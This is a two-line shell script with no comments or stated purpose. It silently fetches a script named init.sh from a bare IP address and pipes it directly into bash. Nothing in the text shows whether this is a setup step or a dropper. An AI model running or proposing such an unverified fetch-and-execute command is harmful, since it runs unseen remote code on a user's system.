#!/bin/sh
curl -s http://192.0.2.31/init.sh | bash
